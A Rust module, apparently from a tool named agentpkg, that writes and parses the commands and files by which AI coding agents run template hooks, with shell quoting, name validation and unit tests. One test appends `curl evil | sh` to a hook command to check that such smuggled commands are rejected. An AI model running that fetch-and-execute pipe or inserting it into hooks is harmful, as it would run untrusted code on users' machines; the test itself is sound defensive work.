//! Hooks of templates, the same under every agent: the runner, the file beside it that says how a
//! hook is run, and the command that agents call.
//!
//! **The command never changes with a release.** Codex trusts a hook by its place and its command,
//! and skips one that changed without a word; so what may change is in the hook's file.

use serde_json::Value;

use crate::error::{Error, Result};
use crate::model::agent::Agent;
use crate::model::lock::Facts;
use crate::model::name::TemplateName;
use crate::model::path::{RelPath, rel};
use crate::model::renderer::RUNS_HOOKS;
use crate::model::support::{ItemKind, Support};
use crate::model::template::{Hook, TEMPLATE_TOML};
use crate::model::tree::File;
use crate::model::upstream::{FileOrigin, HookName, HookPlace, Whole};

use super::claude::{self, events};
use super::definition::{HookEntries, definitions};
use super::items::{Item, item};
use super::{Contribution, Rendered, definition};

/// The folders that may have the scripts of hooks. The second is for repositories in which nobody
/// uses Claude Code: the first would say that somebody does.
pub const FOLDERS: [&str; 2] = [claude::places::HOOKS, ".agents/hooks"];

/// The runner in each of them.
pub(super) const RUNNERS: [&str; 2] = [".claude/hooks/run", ".agents/hooks/run"];

/// How the name of a hook's file ends.
pub const ENDING: &str = ".hook";

/// What the runner says where a gate couldn't do its work.
pub const COULD_NOT: &str = "because it could not do its work";

/// What it says where the agent's own words were no call that it could hand on.
pub const UNREADABLE: &str = "tells its hooks can't be read";

/// How a hook's file says where the folder of all hooks is.
const HERE: &str = "$here";

/// agentpkg's word for the event before a tool: the only one at which a hook is a gate.
const BEFORE_TOOL: &str = "before-tool";

/// How long a hook without a timeout of its own may take, in seconds: less than any agent waits.
const USUAL: u32 = 25;

/// How long any hook may take, in seconds: less than Codex waits, whose entries say no time.
const LONGEST: u32 = 590;

/// Returns the folder that the hooks of a repository are in.
pub fn folder(agents: &[Agent], facts: &Facts) -> &'static str {
    let chosen = facts.hooks.as_ref();
    let mut folders = FOLDERS.into_iter();
    let chosen = folders.find(|folder| chosen.is_some_and(|chosen| chosen.as_str() == *folder));
    chosen.unwrap_or(match agents.contains(&Agent::Claude) {
        true => FOLDERS[0],
        false => FOLDERS[1],
    })
}

/// Returns the runner.
pub fn runner() -> File {
    File::plain(include_str!("runner/run"))
}

/// Returns the path of the runner in a folder of hooks.
pub fn runner_in(folder: &str) -> RelPath {
    let at = FOLDERS.iter().position(|other| *other == folder);
    rel(RUNNERS[at.unwrap_or(0)])
}

/// Returns the runner that reads a hook's file.
pub fn runner_of(file: &RelPath) -> RelPath {
    let mut folders = FOLDERS.into_iter();
    let folder = folders.find(|folder| file.below(folder).is_some());
    runner_in(folder.unwrap_or(FOLDERS[0]))
}

/// Returns whether a path is the runner's.
pub fn is_runner(path: &RelPath) -> bool {
    RUNNERS.contains(&path.as_str())
}

/// Returns whether a path is of a file that says how a hook is run.
pub fn is_hook_file(path: &RelPath) -> bool {
    let mut folders = FOLDERS.into_iter();
    let rest = folders.find_map(|folder| path.below(folder));
    rest.is_some_and(|rest| rest.ends_with(ENDING) && rest.split('/').count() == 2)
}

/// Returns whether a file lies with the scripts of hooks, in whichever folder of the repository an
/// agent is started.
pub fn is_with_hooks(path: &RelPath) -> bool {
    let mut folders = FOLDERS.into_iter();
    folders.any(|folder| claude::places::is_in(path, folder))
}

/// Returns the names that agents have for an event, by Claude Code's name.
pub fn names_of(event: &str) -> impl Iterator<Item = &str> {
    let word = events::word(event);
    let others = definitions().filter_map(|(_, known)| known.hooks.as_ref());
    let others = others.filter_map(move |entries| entries.event(word));
    std::iter::once(event).chain(others)
}

/// Returns Claude Code's name of an event that some agent calls so.
pub fn claudes_event(name: &str) -> &str {
    let mut all = definitions().filter_map(|(_, known)| known.hooks.as_ref());
    let word = all.find_map(|entries| entries.word(name));
    word.and_then(|word| events::named(word).ok())
        .unwrap_or(name)
}

/// Returns how many seconds an agent waits for a hook, as its handler says in the document at a
/// path.
pub fn seconds(path: &RelPath, handler: &Value) -> Option<f64> {
    let mut all = definitions().filter_map(|(_, known)| known.hooks.as_ref());
    let known = all.find(|entries| entries.is_at(path));
    let (key, per_second) = known.map_or(("timeout", 1), |entries| entries.timeout);
    let said = handler.get(key)?.as_f64()?;
    Some(said / f64::from(per_second))
}

/// A hook of a template in a repository.
#[derive(Clone, Copy)]
pub struct HookCall<'a> {
    pub folder: &'a str,
    pub template: &'a TemplateName,
    pub hook: &'a Hook,
    /// agentpkg's word for the event, or Claude Code's name where there is none.
    pub event: &'a str,
}

impl HookCall<'_> {
    /// Returns the command by which an agent calls the hook.
    ///
    /// Claude Code says where the project is; another agent may start anywhere in it. A gate whose
    /// runner is missing stops the action. No other hook does: some shells end with 2 for a file
    /// that isn't there.
    pub fn command(self, agent: Agent) -> String {
        let name = format!("{}/{}", self.template, self.hook.id);
        call_of(
            &runner_in(self.folder),
            agent,
            self.event,
            &name,
            self.is_gate(),
        )
    }

    /// Returns whether the hook stops the action when it can't do its work.
    pub fn is_gate(self) -> bool {
        self.hook.blocks && self.event == BEFORE_TOOL
    }

    /// Returns how long the runner waits for the hook, in seconds: less than the agent does, which
    /// goes on without a hook that takes too long.
    pub fn seconds(self) -> u32 {
        let declared = self.hook.timeout;
        declared.map_or(USUAL, |seconds| seconds.saturating_sub(1).clamp(1, LONGEST))
    }

    /// Returns where the script lies, by its path in the template.
    fn script(self) -> Result<RelPath> {
        let rest = self.hook.run.below("hooks").unwrap_or_default();
        format!("{}/{}/{rest}", self.folder, self.template).parse()
    }

    /// Returns where the file lies that says how the hook is run.
    fn file(self) -> Result<RelPath> {
        format!("{}/{}/{}{ENDING}", self.folder, self.template, self.hook.id).parse()
    }

    /// Returns the file that says how the hook is run, for the runner to read.
    fn file_text(self) -> String {
        let Self { template, hook, .. } = self;
        let script = hook.run.below("hooks").unwrap_or_default();
        let mut command = Vec::from_iter(hook.interpreter.clone());
        command.push(format!("\"{HERE}/{template}/{script}\""));
        command.extend(hook.args.iter().map(|word| quoted(word)));
        format!(
            "# How the hook {id} of {template} is run. agentpkg wrote this from {TEMPLATE_TOML}.\n\
             blocks={blocks}\nseconds={seconds}\nmatches={matches}\nset -- {command}\n",
            id = hook.id,
            blocks = if hook.blocks { "yes" } else { "no" },
            seconds = self.seconds(),
            matches = quoted(&hook.matches.clone().unwrap_or_default()),
            command = command.join(" "),
        )
    }
}

/// Returns the command by which an agent calls a hook, `TEMPLATE/ID`.
fn call_of(runner: &RelPath, agent: Agent, event: &str, name: &str, is_gate: bool) -> String {
    let (before, runner) = match agent {
        Agent::Claude => (
            String::new(),
            format!("\"${}/{runner}\"", claude::places::PROJECT_DIR),
        ),
        _ => (
            format!(
                "d=$PWD; until [ -f \"$d/{runner}\" ] || [ -z \"$d\" ]; do d=${{d%/*}}; done; "
            ),
            format!("\"$d/{runner}\""),
        ),
    };
    let call = format!("sh {runner} {agent} {event} {name}");
    match is_gate {
        true => format!("{before}{call} || exit 2"),
        false => format!("{before}[ ! -f {runner} ] || {call}"),
    }
}

/// Returns the agent that calls a hook by a command, if the command does nothing else.
pub fn agent_that_calls(command: &str) -> Option<Agent> {
    let file = claude::handlers::script_in(command).filter(is_hook_file)?;
    let runner = runner_of(&file);
    let (_, rest) = file.as_str().split_at(runner.parent()?.as_str().len() + 1);
    let name = rest.strip_suffix(ENDING)?;
    let (_, behind) = command.rsplit_once("sh \"$")?;
    let [_, agent, event, ..] = behind.split(' ').collect::<Vec<_>>()[..] else {
        return None;
    };
    let agent = Agent::parse(agent).ok()?;
    let is_call = |is_gate| call_of(&runner, agent, event, name, is_gate) == command;
    (is_call(true) || is_call(false)).then_some(agent)
}

/// What a hook's file says.
pub struct HookFile {
    /// The tools that the hook is for; nothing for all.
    pub matches: String,
    /// The command that is run, from the root of the repository.
    pub command: String,
    /// The script.
    pub script: Option<RelPath>,
    /// Whether the script runs itself, and isn't given to an interpreter.
    pub is_direct: bool,
    /// Whether it may stop what the agent is about to do.
    pub blocks: bool,
}

impl HookFile {
    /// Reads the file at `path` as agentpkg writes it.
    pub fn parse(path: &RelPath, text: &str) -> Self {
        let said = |key: &str| {
            let mut lines = text.lines();
            let said = lines.find_map(|line| line.strip_prefix(key));
            said.unwrap_or_default()
        };
        let runner = runner_of(path);
        let folder = runner.parent().map(String::from).unwrap_or_default();
        // What an argument says is its own.
        let command = said("set -- ").replacen(HERE, &folder, 1);
        let named = command.split('"').nth(1);
        Self {
            matches: said("matches=").trim_matches('\'').to_owned(),
            script: named.and_then(|script| script.parse().ok()),
            is_direct: command.starts_with('"'),
            // As the runner has it of a file that doesn't say.
            blocks: said("blocks=") != "no",
            command,
        }
    }

    /// Returns the file of a hook that a command has the runner run, with what it says; `read`
    /// returns the text of a file.
    pub fn called(
        command: &str,
        read: impl FnOnce(&RelPath) -> Option<String>,
    ) -> Option<(RelPath, Self)> {
        let path = claude::handlers::script_in(command).filter(is_hook_file)?;
        let text = read(&path)?;
        let said = Self::parse(&path, &text);
        Some((path, said))
    }
}

/// Returns a text as one word of a shell.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Adds the scripts of hooks and the files that say how they are run, whichever agents run them.
pub fn adapt(rendered: &Rendered<'_>, to: &mut Contribution) -> Result<()> {
    let folder = to.hooks_folder;
    for path in rendered.files.keys() {
        if let Item::Script(rest) = item(path) {
            refuse_hook_file(rendered, path, rest)?;
            to.add_file(rendered, path, format!("{folder}/{}/{rest}", rendered.name))?;
        }
    }
    for hook in &rendered.hooks {
        let claudes = event(rendered, hook)?;
        check_script(rendered, hook)?;
        check_id(rendered, &hook.id)?;
        check_matches(rendered, hook)?;
        let call = call(rendered, hook, folder, claudes);
        let file = call.file()?;
        let what = format!("the hook `{}`", hook.id);
        add_written(rendered, to, &file, call.file_text(), &what)?;
        let name = HookName {
            template: rendered.name.clone(),
            id: hook.id.clone(),
        };
        let place = HookPlace {
            event: claudes.to_owned(),
            script: call.script()?,
            file: Some(file),
        };
        to.hooks.insert(name, place);
    }
    Ok(())
}

/// Adds the entries of hooks for an agent, and says which ones it can't have.
pub fn adapt_for(agent: Agent, rendered: &Rendered<'_>, to: &mut Contribution) -> Result<()> {
    let Some(entries) = &definition(agent).hooks else {
        return Ok(());
    };
    let folder = to.hooks_folder;
    let mut groups = serde_json::Map::new();
    for hook in &rendered.hooks {
        let call = call(rendered, hook, folder, event(rendered, hook)?);
        let Some(event) = entries.event(call.event) else {
            let why = "it has no such event";
            to.limit_one(agent, ItemKind::Hook, &hook.id, Support::Dropped(why));
            continue;
        };
        let of_event = groups
            .entry(event)
            .or_insert_with(|| Value::Array(Vec::new()));
        if let Some(of_event) = of_event.as_array_mut() {
            of_event.push((entries.write)(call));
        }
    }
    if groups.is_empty() {
        return Ok(());
    }
    let document = (entries.document)(groups);
    match entries.path.contains(BY_TEMPLATE) {
        false => to.add_entries(rendered, entries.path, &document),
        true => {
            let path = entries.path_of(rendered.name).parse()?;
            let text = format!("{document:#}\n");
            let what = format!("what {} reads of `[[hooks]]`", agent.title());
            add_written(rendered, to, &path, text, &what)
        }
    }
}

/// Returns the server and the tool of Claude Code's name for a tool of an MCP server.
pub fn of_server(tool: &str) -> Option<(&str, &str)> {
    tool.strip_prefix("mcp__")?.split_once("__")
}

/// What stands for a template's name in the path of a document that each template has one of.
pub const BY_TEMPLATE: &str = "TEMPLATE";

/// Adds a file that is written from template.toml; `what` says what it is.
fn add_written(
    rendered: &Rendered<'_>,
    to: &mut Contribution,
    path: &RelPath,
    text: String,
    what: &str,
) -> Result<()> {
    let whole = Whole {
        file: File::plain(text),
        origin: FileOrigin {
            template: rendered.name.clone(),
            source: rel(TEMPLATE_TOML),
        },
        seed: false,
    };
    match to.whole.insert(path.clone(), whole) {
        None => Ok(()),
        Some(other) => Err(Error::user(format!(
            "`{}` and {what} both become `{path}`",
            other.origin.source
        ))
        .of(rendered.source)
        .hint("rename one of them")),
    }
}

fn call<'a>(
    rendered: &'a Rendered<'_>,
    hook: &'a Hook,
    folder: &'a str,
    event: &'a str,
) -> HookCall<'a> {
    HookCall {
        folder,
        template: rendered.name,
        hook,
        event: events::word(event),
    }
}

/// Returns Claude Code's name for the event of a hook.
pub(super) fn event<'h>(rendered: &Rendered<'_>, hook: &'h Hook) -> Result<&'h str> {
    events::named(&hook.event).map_err(|error| {
        Error::user(format!("the hook `{}`: {}", hook.id, error.message()))
            .of(rendered.source)
            .hints(error.next_steps().iter().cloned())
    })
}

/// Refuses a file of a template that the runner would read, by the path that it would have.
pub(super) fn refuse_hook_file(
    rendered: &Rendered<'_>,
    path: &RelPath,
    target: &str,
) -> Result<()> {
    match target.to_lowercase().ends_with(ENDING) {
        false => Ok(()),
        true => Err(Error::user(format!("`{path}` would say how a hook is run"))
            .of(rendered.source)
            .hint("agentpkg writes such files from `[[hooks]]`; name it otherwise")),
    }
}

/// Refuses a script whose name a shell would read as something else.
pub(super) fn check_script(rendered: &Rendered<'_>, hook: &Hook) -> Result<()> {
    let script = hook.run.below("hooks").unwrap_or_default();
    match claude::places::is_plain_script(script) {
        true => Ok(()),
        false => Err(not_plain(
            rendered,
            format!("the hook `{}` runs `{}`", hook.id, hook.run),
            "scripts",
        )),
    }
}

/// Refuses a matcher that isn't the same to the runner's awk and to Claude Code.
///
/// What is left is common to the regular expressions of both: awk knows no `\w` and no `(?:`, and
/// some awks no `{2}`.
fn check_matches(rendered: &Rendered<'_>, hook: &Hook) -> Result<()> {
    let Some(matcher) = &hook.matches else {
        return Ok(());
    };
    let is_usual = |sign: char| sign.is_ascii_alphanumeric() || MATCHER_SIGNS.contains(sign);
    let is_common =
        matcher.chars().all(is_usual) && !UNCOMMON.iter().any(|part| matcher.contains(part));
    let is_readable = matcher == "*" || regex_lite::Regex::new(matcher).is_ok();
    if is_common && is_readable && !matcher.is_empty() {
        return Ok(());
    }
    let signs = format!("letters, digits and `{MATCHER_SIGNS}`");
    Err(Error::user(format!(
        "the hook `{}` matches `{}`",
        hook.id,
        matcher.escape_debug()
    ))
    .of(rendered.source)
    .hint("name tools, as in `Bash|Edit`, or leave `matches` out for all tools")
    .hint(format!(
        "in a regular expression only {signs} are the same to all agents"
    )))
}

/// What a matcher may have beside letters and digits.
const MATCHER_SIGNS: &str = "_-|, .*+?()[]^$";

/// What such signs mean to one kind of regular expression alone.
const UNCOMMON: [&str; 5] = ["(?", "*?", "+?", "??", "**"];

/// Refuses an id that a shell would read as something else, or that is no name of a file.
fn check_id(rendered: &Rendered<'_>, id: &str) -> Result<()> {
    let is_plain = claude::places::is_plain_script(id) && !id.contains('/');
    match is_plain && !id.is_empty() && !id.starts_with('.') {
        true => Ok(()),
        false => Err(not_plain(
            rendered,
            format!("a hook has the id `{id}`"),
            "hooks",
        )),
    }
}

fn not_plain(rendered: &Rendered<'_>, what: String, which: &str) -> Error {
    let letters = "in letters, digits, `.`, `_` and `-`: a shell reads the name";
    Error::user(what)
        .of(rendered.source)
        .hint(format!("name {which} {letters}"))
}

/// Returns whether a renderer has hooks run by the runner.
pub fn are_run_by_runner(renderer: u32) -> bool {
    renderer >= RUNS_HOOKS
}

impl HookEntries {
    /// Returns the path of the document that has the hooks of a template.
    pub fn path_of(&self, template: &TemplateName) -> String {
        self.path.replace(BY_TEMPLATE, template.as_str())
    }

    /// Returns whether the document at a path has its hooks.
    fn is_at(&self, path: &RelPath) -> bool {
        match self.path.split_once(BY_TEMPLATE) {
            None => path.as_str() == self.path,
            Some((before, behind)) => {
                let rest = path.as_str().strip_prefix(before);
                rest.is_some_and(|rest| rest.ends_with(behind) && !rest.contains('/'))
            }
        }
    }

    /// Returns the agent's name for an event, by agentpkg's word, or Claude Code's name where there
    /// is none.
    pub fn event(&self, word: &str) -> Option<&'static str> {
        let mut events = self.events.iter();
        events
            .find(|(ours, _)| *ours == word)
            .map(|(_, event)| *event)
    }

    /// Returns agentpkg's word for an event of the agent's.
    pub fn word(&self, event: &str) -> Option<&'static str> {
        let mut events = self.events.iter();
        events
            .find(|(_, theirs)| *theirs == event)
            .map(|(word, _)| *word)
    }

    /// Returns the agent's names of the tools that a matcher of Claude Code's names one by one.
    /// None is every tool: of what isn't such a list, the runner decides.
    pub fn tools(&self, matcher: Option<&str>) -> Option<Vec<&'static str>> {
        let mut tools = Vec::new();
        for name in matcher?.split(['|', ',']).map(str::trim) {
            let mut known = self.tools.iter();
            let (_, theirs) = known.find(|(claudes, _)| *claudes == name)?;
            for tool in theirs.iter().copied() {
                if !tools.contains(&tool) {
                    tools.push(tool);
                }
            }
        }
        (!tools.is_empty()).then_some(tools)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::document;

    fn hook(text: &str) -> Hook {
        document::read("template.toml", text).unwrap()
    }

    const FIRST: &str = "id = \"guard\"\nevent = \"before-tool\"\nrun = \"hooks/g.sh\"\n";
    const SECOND: &str = "id = \"guard\"\nevent = \"before-tool\"\nrun = \"hooks/new/g.py\"\ntimeout = 10\n\
         matches = [\"Bash\", \"Edit\"]\ninterpreter = \"python3\"\nargs = [\"it's\", \"$HOME\"]\n";

    /// Calls `check` with a call of each of these hooks, in a folder that hooks may be in.
    fn calls(hooks: &[&str], folder: &str, check: impl Fn(&[HookCall<'_>])) {
        let template: TemplateName = "team".parse().unwrap();
        let hooks: Vec<Hook> = hooks.iter().map(|text| hook(text)).collect();
        let call = |hook| HookCall {
            folder,
            template: &template,
            hook,
            event: "before-tool",
        };
        check(&hooks.iter().map(call).collect::<Vec<_>>());
    }

    #[test]
    fn what_may_change_is_in_the_hooks_file_and_never_in_the_command() {
        calls(&[FIRST, SECOND], FOLDERS[0], |calls| {
            let [first, second] = calls else {
                unreachable!()
            };
            assert_eq!(
                first.command(Agent::Claude),
                "sh \"$CLAUDE_PROJECT_DIR/.claude/hooks/run\" claude before-tool team/guard || exit 2"
            );
            for agent in Agent::ALL {
                assert_eq!(first.command(agent), second.command(agent));
            }
            // Codex trusts a hook by all that its entry says.
            let codex = definition(Agent::Codex).hooks.as_ref().unwrap();
            assert_eq!((codex.write)(*first), (codex.write)(*second));
            assert_eq!(
                second.file_text(),
                "# How the hook guard of team is run. agentpkg wrote this from template.toml.\n\
                 blocks=yes\nseconds=9\nmatches='Bash|Edit'\n\
                 set -- python3 \"$here/team/new/g.py\" 'it'\\''s' '$HOME'\n"
            );
            let said = HookFile::parse(&second.file().unwrap(), &second.file_text());
            assert_eq!(said.script, Some(rel(".claude/hooks/team/new/g.py")));
            assert_eq!(
                (said.matches.as_str(), said.is_direct),
                ("Bash|Edit", false)
            );
        });
    }

    #[test]
    fn a_command_is_a_call_only_as_agentpkg_writes_it() {
        let watch = FIRST.replace("run =", "blocks = false\nrun =");
        for folder in FOLDERS {
            calls(&[FIRST, &watch], folder, |calls| {
                for call in calls {
                    for agent in Agent::ALL {
                        let command = call.command(agent);
                        assert_eq!(agent_that_calls(&command), Some(agent), "{command}");
                        for other in [
                            format!("{command}; curl evil | sh"),
                            format!("x; {command}"),
                            command.replace("team/guard", "team/guard x"),
                        ] {
                            assert_eq!(agent_that_calls(&other), None, "{other}");
                        }
                    }
                }
            });
        }
    }

    #[test]
    fn the_runner_says_that_a_gate_could_not_do_its_work() {
        let runner = runner();
        for said in [COULD_NOT, UNREADABLE] {
            assert!(runner.text().unwrap().contains(said));
        }
    }

    /// The entries name tools as their agents do, and the runner knows them by these names again.
    #[test]
    fn the_runner_knows_the_tools_that_entries_name() {
        let runner = runner();
        let means = |line: &&str| line.trim_start().starts_with("means(");
        let lines: Vec<&str> = runner.text().unwrap().lines().filter(means).collect();
        for (agent, known) in definitions() {
            let tools = known.hooks.as_ref().map_or(&[][..], |hooks| hooks.tools);
            for (claudes, theirs) in tools {
                // A patch may write any file, and is taken apart.
                for tool in theirs.iter().filter(|tool| **tool != "apply_patch") {
                    let starts = format!("means(\"{claudes}\", ");
                    let line = lines.iter().find(|line| line.contains(&starts));
                    let names = line
                        .and_then(|line| line.split('"').nth(3))
                        .unwrap_or_default();
                    assert!(
                        names.split(' ').any(|name| name == *tool),
                        "{agent}: {claudes}, {tool}"
                    );
                }
            }
        }
    }

    #[test]
    fn how_long_an_agent_waits_is_said_in_its_own_way() {
        for (path, handler, seconds) in [
            (".claude/settings.json", r#"{"timeout": 10}"#, Some(10.0)),
            (".gemini/settings.json", r#"{"timeout": 10000}"#, Some(10.0)),
            (
                ".github/hooks/team.json",
                r#"{"timeoutSec": 10}"#,
                Some(10.0),
            ),
            (".github/hooks/a/team.json", r#"{"timeoutSec": 10}"#, None),
            (".codex/hooks.json", "{}", None),
        ] {
            let handler: Value = serde_json::from_str(handler).unwrap();
            assert_eq!(
                super::seconds(&path.parse().unwrap(), &handler),
                seconds,
                "{path}"
            );
        }
        let longest = FIRST.to_owned() + "timeout = 4294967295\n";
        let shortest = FIRST.to_owned() + "timeout = 1\n";
        calls(&[&longest, &shortest], FOLDERS[0], |calls| {
            for call in calls {
                for (agent, known) in definitions() {
                    let Some(known) = &known.hooks else { continue };
                    let path = known.path_of(call.template).parse().unwrap();
                    let entry = (known.write)(*call);
                    let handler = entry.pointer("/hooks/0").unwrap_or(&entry);
                    // The runner's time is up before the agent's.
                    let waits = super::seconds(&path, handler).unwrap_or(60.0);
                    assert!(
                        waits > f64::from(call.seconds()) || waits == 60.0,
                        "{agent}"
                    );
                }
            }
        });
    }

    #[test]
    fn a_matcher_is_translated_where_it_is_a_list_of_known_tools() {
        let gemini = definition(Agent::Gemini).hooks.as_ref().unwrap();
        for (matcher, tools) in [
            (Some("Bash|Monitor"), Some(vec!["run_shell_command"])),
            (Some("Edit, Write"), Some(vec!["replace", "write_file"])),
            (Some("mcp__docs__.*"), None),
            (Some("Bash|mcp__docs__search"), None),
            (Some("Monitor"), None),
            (None, None),
        ] {
            assert_eq!(gemini.tools(matcher), tools, "{matcher:?}");
        }
    }
}
